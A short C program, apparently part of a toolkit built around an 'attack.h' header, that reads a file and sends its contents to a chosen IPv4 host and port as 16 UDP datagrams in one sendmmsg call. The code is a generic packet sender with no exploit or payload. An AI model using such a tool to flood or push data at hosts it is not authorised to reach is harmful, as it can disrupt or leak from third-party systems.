/* send SCAN HOST PORT: many datagrams in one system call. */
#include "attack.h"
#include <arpa/inet.h>
#include <sys/socket.h>

enum { PARTS = 16, PART = 1024 };

int main(int count, char **arguments)
{
	static char buffer[PARTS * PART];
	struct mmsghdr messages[PARTS] = {};
	struct iovec parts[PARTS];
	struct sockaddr_in to = { .sin_family = AF_INET };

	if (count != 4 || !inet_aton(arguments[2], &to.sin_addr))
		return 2;
	to.sin_port = htons(atoi(arguments[3]));
	int sock = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");
	slurp(arguments[1], buffer, sizeof(buffer));
	for (int part = 0; part < PARTS; part++) {
		parts[part] = (struct iovec){ buffer + part * PART, PART };
		messages[part].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof(to),
							  .msg_iov = &parts[part], .msg_iovlen = 1 };
	}
	must(sendmmsg(sock, messages, PARTS, 0), "sendmmsg");
	return 0;
}
